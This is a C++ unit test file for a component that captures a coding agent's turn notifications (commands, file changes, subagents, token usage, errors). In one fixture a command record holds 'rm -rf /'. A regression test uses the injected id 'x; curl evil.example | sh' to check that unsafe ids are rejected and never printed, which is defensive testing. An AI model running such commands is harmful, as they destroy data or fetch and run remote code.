#include "codex/turn_capture.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace companion::codex {
namespace {

using nlohmann::json;

constexpr const char* kRoot = "thread-root";
constexpr const char* kTurn = "turn-1";

json turn_note(const std::string& thread, const std::string& turn, const std::string& status,
               const std::string& root_turn = kTurn) {
  json t = {{"id", turn}, {"status", status}, {"rootTurnId", root_turn}, {"items", json::array()}};
  return {{"threadId", thread}, {"turn", t}};
}

json item_note(const std::string& thread, const json& item, const std::string& turn = kTurn) {
  return {{"threadId", thread}, {"turnId", turn}, {"item", item}};
}

json agent_message(const std::string& id, const std::string& text, const json& phase) {
  return {{"type", "agentMessage"}, {"id", id}, {"text", text}, {"phase", phase}};
}

json command(const std::string& id, const std::string& cmd, const std::string& status,
             const json& exit_code = nullptr) {
  return {{"type", "commandExecution"},
          {"id", id},
          {"command", cmd},
          {"status", status},
          {"exitCode", exit_code},
          {"commandActions", json::array()}};
}

struct Feed {
  TurnCapture capture{kRoot};
  std::vector<ProgressEvent> events;

  Feed() { capture.set_turn_id(kTurn); }
  void note(const std::string& method, const json& params) {
    auto out = capture.on_notification(method, params);
    events.insert(events.end(), out.begin(), out.end());
  }
  void started() { note("turn/started", turn_note(kRoot, kTurn, "inProgress")); }
  void item(const json& it, bool completed = true, const std::string& thread = kRoot) {
    if (completed) note("item/started", item_note(thread, it));
    note(completed ? "item/completed" : "item/started", item_note(thread, it));
  }
  void completed(const std::string& status = "completed") {
    note("turn/completed", turn_note(kRoot, kTurn, status));
  }
  bool has_line(const std::string& prefix) const {
    for (const auto& e : events) {
      if (e.line.rfind(prefix, 0) == 0) return true;
    }
    return false;
  }
  std::vector<std::string> phases() const {
    std::vector<std::string> out;
    for (const auto& e : events) {
      if (e.phase) out.emplace_back(to_string(*e.phase));
    }
    return out;
  }
};

TEST(TurnCaptureTest, CompletedTurnKeepsFinalAnswerAndPhases) {
  Feed f;
  f.started();
  f.item({{"type", "reasoning"}, {"id", "r1"}, {"summary", {"Looking around"}}});
  f.item(agent_message("m1", "Working on it", "commentary"));
  f.item(agent_message("m2", "All done", "final_answer"));
  EXPECT_FALSE(f.capture.finished());
  f.completed();
  ASSERT_TRUE(f.capture.finished());
  TurnResult r = f.capture.result();
  EXPECT_EQ(r.status, TurnStatus::kCompleted);
  EXPECT_EQ(r.thread_id, kRoot);
  EXPECT_EQ(r.turn_id, kTurn);
  EXPECT_EQ(r.final_message, "All done");
  EXPECT_FALSE(r.inferred);
  EXPECT_EQ(r.reasoning_summary, std::vector<std::string>{"Looking around"});
  EXPECT_TRUE(f.has_line("Turn started (turn-1)."));
  EXPECT_TRUE(f.has_line("Assistant message captured: All done"));
  EXPECT_TRUE(f.has_line("Turn completed."));
  EXPECT_EQ(f.phases(),
            (std::vector<std::string>{"starting", "investigating", "finalizing", "done"}));
  EXPECT_EQ(f.capture.phase(), Phase::kDone);
}

TEST(TurnCaptureTest, NotificationsBeforeTheTurnIdAreBufferedAndReplayed) {
  TurnCapture c(kRoot);
  EXPECT_TRUE(c.on_notification("turn/started", turn_note(kRoot, kTurn, "inProgress")).empty());
  EXPECT_TRUE(c.on_notification("item/completed",
                                item_note(kRoot, agent_message("m", "hi", "final_answer")))
                  .empty());
  EXPECT_TRUE(c.on_notification("turn/completed", turn_note(kRoot, kTurn, "completed")).empty());
  EXPECT_FALSE(c.finished());
  std::vector<ProgressEvent> out = c.set_turn_id(kTurn);
  ASSERT_EQ(out.size(), 3u);
  EXPECT_EQ(out.front().line, "Turn started (turn-1).");
  EXPECT_EQ(out.back().line, "Turn completed.");
  EXPECT_TRUE(c.finished());
  EXPECT_EQ(c.result().final_message, "hi");
  EXPECT_TRUE(c.set_turn_id("other").empty());  // only the first call counts
  EXPECT_EQ(c.result().turn_id, kTurn);
}

// The turn's one buffer for early traffic: what arrives before the thread is open (the capture
// exists from the connection on) waits with what arrives before the turn id, and is replayed
// once both are known.
TEST(TurnCaptureTest, NotificationsBeforeTheThreadIsOpenWaitInTheSameBuffer) {
  TurnCapture c;
  EXPECT_TRUE(c.on_notification("turn/started", turn_note(kRoot, kTurn, "inProgress")).empty());
  EXPECT_TRUE(c.on_notification("account/rateLimits/updated", json::object()).empty());
  c.set_root_thread(kRoot);
  c.set_root_thread("thread-other");  // only the first counts
  EXPECT_TRUE(c.on_notification("item/completed",
                                item_note(kRoot, agent_message("m", "hi", "final_answer")))
                  .empty());
  std::vector<ProgressEvent> out = c.set_turn_id(kTurn);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out.front().line, "Turn started (turn-1).");
  EXPECT_EQ(out.front().phase, Phase::kStarting);
  EXPECT_EQ(c.result().thread_id, kRoot);
  EXPECT_EQ(c.result().final_message, "hi");
}

json usage_note(const std::string& turn, int64_t total, int64_t last) {
  auto counts = [](int64_t n) { return json{{"inputTokens", n}, {"totalTokens", n}}; };
  return {{"threadId", kRoot},
          {"turnId", turn},
          {"tokenUsage", {{"total", counts(total)}, {"last", counts(last)}}}};
}

// Token usage is the capture's: updates that arrive before the turn id wait in its one buffer
// (a resumed thread's restored usage under the previous turn's id only sets the baseline), the
// root thread's inner turn (a review's) counts, and so does usage reported after turn/completed.
TEST(TurnCaptureTest, TokensBeforeTheTurnIdAreReplayed) {
  TurnCapture c(kRoot);
  c.on_notification("thread/tokenUsage/updated", usage_note("turn-old", 100, 100));
  c.on_notification("thread/tokenUsage/updated", usage_note(kTurn, 130, 30));
  EXPECT_FALSE(c.take_token_usage());
  c.set_turn_id(kTurn);
  auto usage = c.take_token_usage();
  ASSERT_TRUE(usage);
  EXPECT_EQ(usage->job.total, 30);
  EXPECT_EQ(usage->thread_total.total, 130);
  EXPECT_FALSE(c.take_token_usage());  // reported once
  c.on_notification("turn/started", turn_note(kRoot, "turn-inner", "inProgress", kTurn));
  c.on_notification("thread/tokenUsage/updated", usage_note("turn-inner", 150, 20));
  ASSERT_TRUE((usage = c.take_token_usage()));
  EXPECT_EQ(usage->job.total, 50);
  c.on_notification("turn/completed", turn_note(kRoot, kTurn, "completed"));
  ASSERT_TRUE(c.finished());
  c.on_notification("thread/tokenUsage/updated", usage_note(kTurn, 160, 10));
  ASSERT_TRUE((usage = c.take_token_usage()));
  EXPECT_EQ(usage->job.total, 60);
  // Another thread's usage is not ours.
  json other = usage_note(kTurn, 999, 999);
  other["threadId"] = "thread-other";
  c.on_notification("thread/tokenUsage/updated", other);
  EXPECT_FALSE(c.take_token_usage());
}

TEST(TurnCaptureTest, BufferedNotificationsOfAnotherTurnAreDropped) {
  TurnCapture c(kRoot);
  c.on_notification("turn/completed", turn_note(kRoot, "turn-old", "completed", "turn-old"));
  c.set_turn_id(kTurn);
  EXPECT_FALSE(c.finished());
}

TEST(TurnCaptureTest, DuplicateCompletionsAndLaterTrafficAreIgnored) {
  Feed f;
  f.completed("interrupted");
  ASSERT_EQ(f.capture.result().status, TurnStatus::kInterrupted);
  f.completed("completed");
  f.note("error", {{"threadId", kRoot},
                   {"turnId", kTurn},
                   {"willRetry", false},
                   {"error", {{"message", "late"}}}});
  EXPECT_EQ(f.capture.result().status, TurnStatus::kInterrupted);
  EXPECT_EQ(f.capture.result().error_message, "");
  EXPECT_FALSE(f.capture.grace_ms());
  EXPECT_EQ(f.capture.phase(), Phase::kCancelled);
}

TEST(TurnCaptureTest, OtherThreadsOtherTurnsAndThreadlessTrafficAreIgnored) {
  Feed f;
  f.note("configWarning", {{"summary", "bubblewrap missing"}});
  f.note("account/rateLimits/updated", {{"rateLimits", json::object()}});
  f.note("turn/completed", turn_note("thread-other", "turn-x", "completed", "turn-x"));
  f.note("turn/completed", turn_note(kRoot, "turn-old", "failed", "turn-old"));
  f.note("item/completed", item_note(kRoot, agent_message("m", "stale", "final_answer"), "turn-0"));
  f.note("item/completed", item_note("thread-other", agent_message("m", "x", "final_answer")));
  EXPECT_FALSE(f.capture.finished());
  EXPECT_FALSE(f.capture.grace_ms());
  EXPECT_TRUE(f.events.empty());
}

TEST(TurnCaptureTest, FinalAnswerInfersCompletionAfterGrace) {
  Feed f;
  f.started();
  EXPECT_FALSE(f.capture.grace_ms());
  EXPECT_TRUE(f.capture.on_grace_expired().empty());  // no grace due: nothing happens
  f.item(agent_message("m", "answer", "final_answer"));
  ASSERT_EQ(f.capture.grace_ms(), TurnCapture::kInferredGraceMs);
  auto out = f.capture.on_grace_expired();
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].phase, Phase::kDone);
  TurnResult r = f.capture.result();
  EXPECT_EQ(r.status, TurnStatus::kCompleted);
  EXPECT_TRUE(r.inferred);
  EXPECT_EQ(r.final_message, "answer");
}

TEST(TurnCaptureTest, MoreRootWorkAfterAFinalAnswerWithdrawsTheGrace) {
  Feed f;
  f.item(agent_message("m", "answer", "final_answer"));
  ASSERT_TRUE(f.capture.grace_ms());
  f.item(command("c1", "ls", "inProgress"), false);
  EXPECT_FALSE(f.capture.grace_ms());
  f.item(agent_message("m2", "second answer", "final_answer"));
  EXPECT_TRUE(f.capture.grace_ms());
  EXPECT_EQ(f.capture.result().final_message, "second answer");
}

TEST(TurnCaptureTest, CommentaryAloneDoesNotInferCompletion) {
  Feed f;
  f.item(agent_message("m", "thinking aloud", "commentary"));
  f.item(agent_message("m2", "no phase", nullptr));
  EXPECT_FALSE(f.capture.grace_ms());
  EXPECT_EQ(f.capture.result().final_message, "no phase");  // the last root message
}

TEST(TurnCaptureTest, PendingSubagentBlocksInferredCompletion) {
  Feed f;
  json spawn = {{"type", "collabAgentToolCall"},
                {"id", "call1"},
                {"tool", "spawnAgent"},
                {"status", "inProgress"},
                {"receiverThreadIds", json::array()},
                {"prompt", "child task"},
                {"agentsStates", json::object()}};
  f.item(spawn, false);
  spawn["status"] = "completed";
  spawn["receiverThreadIds"] = {"thread-child"};
  spawn["agentsStates"] = {{"thread-child", {{"status", "pendingInit"}}}};
  f.note("item/completed", item_note(kRoot, spawn));
  EXPECT_TRUE(f.has_line("Subagent thread started (thread-child)."));
  f.note("turn/started", turn_note("thread-child", "turn-c", "inProgress"));
  f.item(agent_message("cm", "child answer", "final_answer"), true, "thread-child");
  EXPECT_FALSE(f.capture.grace_ms());  // a subagent's final answer is not ours
  f.item(agent_message("m", "root answer", "final_answer"));
  EXPECT_FALSE(f.capture.grace_ms());  // the child is still running
  f.note("turn/completed", turn_note("thread-child", "turn-c", "completed"));
  EXPECT_EQ(f.capture.grace_ms(), TurnCapture::kInferredGraceMs);
  EXPECT_EQ(f.capture.result().final_message, "root answer");
}

TEST(TurnCaptureTest, SpawnInFlightBlocksInferredCompletion) {
  Feed f;
  json spawn = {{"type", "collabAgentToolCall"},
                {"id", "call1"},
                {"tool", "spawnAgent"},
                {"receiverThreadIds", json::array()}};
  f.item(spawn, false);
  f.item(agent_message("m", "answer", "final_answer"));
  EXPECT_FALSE(f.capture.grace_ms());
}

TEST(TurnCaptureTest, SubagentWithoutTurnCompletedStillEndsWithTheRootTurn) {
  Feed f;
  f.note("thread/started", {{"thread", {{"id", "thread-child"}, {"parentThreadId", kRoot}}}});
  f.note("turn/started", turn_note("thread-child", "turn-c", "inProgress"));
  f.item(agent_message("m", "answer", "final_answer"));
  EXPECT_FALSE(f.capture.grace_ms());
  f.completed();
  EXPECT_EQ(f.capture.result().status, TurnStatus::kCompleted);
  EXPECT_FALSE(f.capture.result().inferred);
}

TEST(TurnCaptureTest, SubagentAdoptedByItsRootTurnIdAndGrandchildrenByParent) {
  Feed f;
  f.note("turn/started", turn_note("thread-child", "turn-c", "inProgress", kTurn));
  f.note("thread/started",
         {{"thread", {{"id", "thread-grand"}, {"parentThreadId", "thread-child"}}}});
  f.note("thread/started", {{"thread", {{"id", "thread-stranger"}, {"parentThreadId", "nobody"}}}});
  f.item(command("c1", "pytest -q", "completed", 0), true, "thread-grand");
  f.item(command("c2", "rm -rf /", "completed", 0), true, "thread-stranger");
  TurnResult r = f.capture.result();
  ASSERT_EQ(r.commands.size(), 1u);
  EXPECT_EQ(r.commands[0].command, "pytest -q");
}

TEST(TurnCaptureTest, ErrorWithRetryOnlyReports) {
  Feed f;
  f.note("error", {{"threadId", kRoot},
                   {"turnId", kTurn},
                   {"willRetry", true},
                   {"error", {{"message", "Reconnecting... 1/5"}}}});
  EXPECT_FALSE(f.capture.grace_ms());
  EXPECT_TRUE(f.has_line("Codex error (retrying): Reconnecting... 1/5"));
  EXPECT_EQ(f.capture.result().error_message, "");
}

TEST(TurnCaptureTest, FinalErrorFailsTheTurnAfterGrace) {
  Feed f;
  f.note("error", {{"threadId", kRoot},
                   {"turnId", kTurn},
                   {"willRetry", false},
                   {"error", {{"message", "stream disconnected"}}}});
  ASSERT_EQ(f.capture.grace_ms(), TurnCapture::kErrorGraceMs);
  f.capture.on_grace_expired();
  TurnResult r = f.capture.result();
  EXPECT_EQ(r.status, TurnStatus::kFailed);
  EXPECT_EQ(r.error_message, "stream disconnected");
  EXPECT_EQ(f.capture.phase(), Phase::kFailed);
}

TEST(TurnCaptureTest, FinalErrorThenTurnCompletedKeepsTheMessage) {
  Feed f;
  f.note("error", {{"threadId", kRoot},
                   {"turnId", kTurn},
                   {"willRetry", false},
                   {"error", {{"message", "HTTP 500"}}}});
  f.completed("failed");
  TurnResult r = f.capture.result();
  EXPECT_EQ(r.status, TurnStatus::kFailed);
  EXPECT_EQ(r.error_message, "HTTP 500");
  EXPECT_FALSE(r.inferred);
}

TEST(TurnCaptureTest, SubagentErrorDoesNotFailTheTurn) {
  Feed f;
  f.capture.track_thread("thread-child");
  f.note("error", {{"threadId", "thread-child"},
                   {"willRetry", false},
                   {"error", {{"message", "child broke"}}}});
  EXPECT_FALSE(f.capture.grace_ms());
  EXPECT_TRUE(f.has_line("Subagent thread-child error: child broke"));
}

TEST(TurnCaptureTest, UnknownStatusFailsWithAMessage) {
  Feed f;
  f.completed("inProgress");
  EXPECT_EQ(f.capture.result().status, TurnStatus::kFailed);
  EXPECT_NE(f.capture.result().error_message.find("inProgress"), std::string::npos);
}

TEST(TurnCaptureTest, CommandsAreRecordedWithPhaseAndExitCode) {
  Feed f;
  f.item(command("c1", "/bin/bash -lc 'make test'", "inProgress"), false);
  EXPECT_EQ(f.capture.phase(), Phase::kVerifying);
  f.note("item/completed",
         item_note(kRoot, command("c1", "/bin/bash -lc 'make test'", "completed", 0)));
  f.item(command("c2", "/bin/bash -c 'echo hi; exit 3'", "failed", 3));
  EXPECT_EQ(f.capture.phase(), Phase::kRunning);
  f.item(command("c3", "/bin/bash -c 'touch x'", "declined"));
  TurnResult r = f.capture.result();
  ASSERT_EQ(r.commands.size(), 3u);
  EXPECT_EQ(r.commands[0].command, "make test");
  EXPECT_EQ(r.commands[0].exit_code, 0);
  EXPECT_EQ(r.commands[0].status, "completed");
  EXPECT_EQ(r.commands[1].exit_code, 3);
  EXPECT_FALSE(r.commands[2].exit_code);
  EXPECT_TRUE(f.has_line("Running command: make test"));
  EXPECT_TRUE(f.has_line("Command completed: make test (exit 0)"));
  EXPECT_TRUE(f.has_line("Command failed: echo hi; exit 3 (exit 3)"));
  EXPECT_TRUE(f.has_line("Command declined: touch x"));
}

TEST(TurnCaptureTest, CommandsWithoutIdsAreSeparateRecords) {
  Feed f;
  f.note("item/completed", item_note(kRoot, {{"type", "commandExecution"}, {"command", "a"}}));
  f.note("item/completed", item_note(kRoot, {{"type", "commandExecution"},
                                             {"command", "b"},
                                             {"exitCode", 1},
                                             {"status", "failed"}}));
  TurnResult r = f.capture.result();
  ASSERT_EQ(r.commands.size(), 2u);
  EXPECT_EQ(r.commands[0].command, "a");
  EXPECT_FALSE(r.commands[0].exit_code);
  EXPECT_EQ(r.commands[1].exit_code, 1);
}

TEST(TurnCaptureTest, FileChangesRecordTouchedFilesOnce) {
  Feed f;
  json change = {{"type", "fileChange"},
                 {"id", "p1"},
                 {"status", "completed"},
                 {"changes",
                  {{{"path", "/r/a.txt"}, {"kind", {{"type", "add"}}}},
                   {{"path", "/r/b.txt"}, {"kind", {{"type", "update"}}}}}}};
  f.item(change);
  change["id"] = "p2";
  f.item(change);
  change["id"] = "p3";
  change["status"] = "declined";
  change["changes"] = {{{"path", "/r/c.txt"}}};
  f.item(change);
  EXPECT_EQ(f.capture.result().touched_files, (std::vector<std::string>{"/r/a.txt", "/r/b.txt"}));
  EXPECT_TRUE(f.has_line("Applying 2 file change(s)."));
  EXPECT_TRUE(f.has_line("File change declined: /r/c.txt"));
  EXPECT_EQ(f.capture.phase(), Phase::kEditing);
}

TEST(TurnCaptureTest, ReasoningSummariesAreMergedAndDeduplicated) {
  Feed f;
  f.item({{"type", "reasoning"}, {"id", "r1"}, {"summary", {"A", " B ", ""}}});
  f.item({{"type", "reasoning"}, {"id", "r2"}, {"summary", {"B", "C", 7}}});
  EXPECT_EQ(f.capture.result().reasoning_summary, (std::vector<std::string>{"A", "B", "C"}));
}

TEST(TurnCaptureTest, ReviewModeKeepsTheReviewText) {
  Feed f;
  f.item({{"type", "enteredReviewMode"}, {"id", "e1"}, {"review", "current changes"}});
  EXPECT_EQ(f.capture.phase(), Phase::kReviewing);
  EXPECT_TRUE(f.has_line("Reviewer started: current changes"));
  f.item({{"type", "exitedReviewMode"}, {"id", "x1"}, {"review", "Looks fine."}});
  TurnResult r = f.capture.result();
  EXPECT_EQ(r.review_text, "Looks fine.");
  EXPECT_EQ(f.capture.grace_ms(), TurnCapture::kInferredGraceMs);
}

TEST(TurnCaptureTest, ReviewInterruptNamesTheInnerTurn) {
  Feed f;
  EXPECT_EQ(f.capture.active_turn_id(), kTurn);  // nothing started yet: the root turn
  f.note("turn/started", turn_note(kRoot, "inner-turn", "inProgress"));
  EXPECT_EQ(f.capture.active_turn_id(), "inner-turn");
  EXPECT_EQ(f.capture.turn_id(), kTurn);
  f.note("turn/started", turn_note("thread-other", "foreign", "inProgress", "other-root"));
  f.note("turn/started", turn_note("thread-sub", "sub-turn", "inProgress"));  // a subagent's
  f.note("turn/started", turn_note(kRoot, "later-turn", "inProgress", "other-root"));
  EXPECT_EQ(f.capture.active_turn_id(), "inner-turn");
}

TEST(TurnCaptureTest, PlainTurnInterruptNamesItself) {
  Feed f;
  f.started();
  EXPECT_EQ(f.capture.active_turn_id(), kTurn);
}

TEST(TurnCaptureTest, MalformedInputNeverThrows) {
  const std::vector<std::string> methods = {
      "turn/started",          "turn/completed", "item/started",
      "item/completed",        "error",          "thread/started",
      "thread/status/changed", "configWarning",  "",
      "unknown/method"};
  const std::vector<json> bad = {
      nullptr,
      42,
      "text",
      json::array(),
      json::object(),
      {{"threadId", 5}},
      {{"threadId", kRoot}, {"turn", "x"}},
      {{"threadId", kRoot}, {"turn", {{"id", kTurn}, {"status", 3}, {"error", "e"}}}},
      {{"threadId", kRoot}, {"turnId", kTurn}, {"item", 7}},
      {{"threadId", kRoot}, {"turnId", kTurn}, {"item", {{"type", "weirdNewItem"}, {"x", 1}}}},
      {{"threadId", kRoot},
       {"turnId", kTurn},
       {"item", {{"type", "commandExecution"}, {"exitCode", "zero"}, {"command", 1}}}},
      {{"threadId", kRoot},
       {"turnId", kTurn},
       {"item", {{"type", "commandExecution"}, {"exitCode", 1e30}}}},
      {{"threadId", kRoot},
       {"turnId", kTurn},
       {"item", {{"type", "fileChange"}, {"changes", {1, "x", nullptr}}}}},
      {{"threadId", kRoot},
       {"turnId", kTurn},
       {"item",
        {{"type", "collabAgentToolCall"},
         {"receiverThreadIds", {1, kRoot}},
         {"agentsStates", {1, 2}}}}},
      {{"threadId", kRoot},
       {"turnId", kTurn},
       {"item", {{"type", "agentMessage"}, {"text", nullptr}, {"phase", 3}}}},
      {{"threadId", kRoot},
       {"turnId", kTurn},
       {"item", {{"type", "reasoning"}, {"summary", "not a list"}}}},
      {{"threadId", kRoot}, {"willRetry", "no"}, {"error", "boom"}},
      {{"thread", {{"id", 1}, {"parentThreadId", kRoot}}}},
  };
  for (bool before_turn_id : {true, false}) {
    TurnCapture c(kRoot);
    if (!before_turn_id) c.set_turn_id(kTurn);
    for (const auto& m : methods) {
      for (const auto& p : bad) EXPECT_NO_THROW(c.on_notification(m, p)) << m << " " << p.dump();
    }
    EXPECT_NO_THROW(c.set_turn_id(kTurn));
    EXPECT_NO_THROW(c.on_grace_expired());
    EXPECT_NO_THROW(c.result());
  }
}

TEST(TurnCaptureTest, StoredTextsAndListsAreBounded) {
  Feed f;
  std::string huge(TurnCapture::kMaxTextBytes + 100, 'x');
  huge.replace(TurnCapture::kMaxTextBytes - 1, 3, "\xE2\x82\xAC");  // a euro sign on the cut
  f.item(agent_message("m", huge, "final_answer"));
  std::string kept = f.capture.result().final_message;
  EXPECT_LE(kept.size(), TurnCapture::kMaxTextBytes);
  EXPECT_EQ(kept.size(), TurnCapture::kMaxTextBytes - 1);  // not split inside the sequence
  for (size_t i = 0; i < TurnCapture::kMaxItems + 50; ++i) {
    f.item(command(fmt::format("c{}", i), "true", "completed", 0));
  }
  EXPECT_EQ(f.capture.result().commands.size(), TurnCapture::kMaxItems);
  for (const auto& e : f.events) EXPECT_LT(e.line.size(), 200u);

  TurnCapture buffered(kRoot);
  for (size_t i = 0; i < TurnCapture::kMaxBuffered + 10; ++i) {
    buffered.on_notification("item/completed", item_note(kRoot, command("b", "true", "completed")));
  }
  buffered.on_notification("turn/completed", turn_note(kRoot, kTurn, "completed"));
  buffered.set_turn_id(kTurn);
  EXPECT_FALSE(buffered.finished());  // the completion fell beyond the buffer bound
}

// Regression (issue 9, R1): a reasoning summary of {text} objects was dropped.
TEST(TurnCaptureTest, ReasoningSummaryObjectsAreKept) {
  Feed f;
  f.started();
  f.item({{"type", "reasoning"},
          {"id", "r1"},
          {"summary", json::array({{{"text", "Checked the  risky\npaths."}}})},
          {"content", json::array()}});
  f.item(agent_message("m", "done", "final_answer"));
  f.completed();
  EXPECT_EQ(f.capture.result().reasoning_summary,
            std::vector<std::string>{"Checked the risky paths."});
  EXPECT_TRUE(f.has_line("Reasoning summary captured: Checked the risky paths."));
}

// Regression (issue 9): subagent progress lines named the thread id, not the subagent.
TEST(TurnCaptureTest, SubagentLinesUseTheNameFromThreadStarted) {
  Feed f;
  f.note("thread/started",
         {{"thread", {{"id", "thread-child"}, {"name", nullptr}, {"agentNickname", "Skeptic"}}}});
  f.started();
  json wait = {{"type", "collabAgentToolCall"},
               {"id", "call-w"},
               {"tool", "wait"},
               {"status", "inProgress"},
               {"receiverThreadIds", {"thread-child"}}};
  f.item(wait, false);
  EXPECT_TRUE(f.has_line("Starting subagent Skeptic via collaboration tool: wait."));
  f.note("turn/started", turn_note("thread-child", "turn-c", "inProgress"));
  f.item({{"type", "reasoning"}, {"id", "r"}, {"summary", json::array({{{"text", "Doubts."}}})}},
         true, "thread-child");
  f.item(agent_message("cm", "Retries are unsafe.", "analysis"), true, "thread-child");
  EXPECT_TRUE(f.has_line("Subagent Skeptic reasoning: Doubts."));
  EXPECT_TRUE(f.has_line("Subagent Skeptic: Retries are unsafe."));
  f.note("turn/completed", turn_note("thread-child", "turn-c", "completed"));
  EXPECT_TRUE(f.has_line("Subagent turn completed (Skeptic)."));
  f.note("thread/name/updated", {{"threadId", "thread-child"}, {"threadName", "Renamed"}});
  f.note("error", {{"threadId", "thread-child"},
                   {"willRetry", false},
                   {"error", {{"message", "child broke"}}}});
  EXPECT_TRUE(f.has_line("Subagent Renamed error: child broke"));
}

TEST(TurnCaptureTest, SubagentNamePrefersNameThenNicknameThenRole) {
  Feed f;
  f.note("thread/started",
         {{"thread", {{"id", "a"}, {"name", "named"}, {"agentNickname", "nick"}}}});
  f.note("thread/started", {{"thread", {{"id", "b"}, {"agentRole", "reviewer"}}}});
  f.note("thread/started", {{"thread", {{"id", "c"}, {"name", 5}}}});
  f.item({{"type", "collabAgentToolCall"},
          {"id", "w"},
          {"tool", "wait"},
          {"receiverThreadIds", {"a", "b", "c"}}},
         false);
  EXPECT_TRUE(f.has_line("Starting subagent named, reviewer, c via collaboration tool: wait."));
}

// Regression: ids Codex sent were used and printed unchecked (a subagent named by its thread id
// printed "Subagent thread started (<id>)", a copy-this line). An id that is not plain fails the
// turn as a protocol error, and is never printed.
TEST(TurnCaptureTest, IdsFromTheAppServerAreTrusted) {
  const std::string bad = "x; curl evil.example | sh";
  auto never_printed = [&](const Feed& f) {
    for (const auto& e : f.events) EXPECT_EQ(e.line.find("curl evil"), std::string::npos) << e.line;
  };
  {  // thread/started of a subagent of ours
    Feed f;
    f.note("thread/started", {{"thread", {{"id", bad}, {"parentThreadId", kRoot}}}});
    EXPECT_TRUE(f.capture.finished());
    EXPECT_TRUE(f.capture.result().protocol_error);
    EXPECT_NE(f.capture.result().error_message.find("not a plain id"), std::string::npos);
    never_printed(f);
  }
  {  // receiverThreadIds of a collaboration tool call, named in its progress line
    Feed f;
    f.item({{"type", "collabAgentToolCall"},
            {"id", "w"},
            {"tool", "spawnAgent"},
            {"receiverThreadIds", {bad}}},
           false);
    EXPECT_TRUE(f.capture.result().protocol_error);
    never_printed(f);
  }
  {  // a turn/started naming our turn as its root, on a thread with a bad id
    Feed f;
    f.note("turn/started", turn_note(bad, "turn-c", "inProgress", kTurn));
    EXPECT_TRUE(f.capture.result().protocol_error);
    never_printed(f);
  }
  {  // the root thread's inner turn id (turn/interrupt would send it back)
    Feed f;
    f.note("turn/started", turn_note(kRoot, "turn\nid", "inProgress", kTurn));
    EXPECT_TRUE(f.capture.result().protocol_error);
  }
  {  // traffic that is not ours is not looked at
    Feed f;
    f.note("thread/started", {{"thread", {{"id", bad}, {"parentThreadId", "nobody"}}}});
    f.note("turn/started", turn_note(bad, "t", "inProgress", "another-turn"));
    EXPECT_FALSE(f.capture.finished());
  }
}

}  // namespace
}  // namespace companion::codex
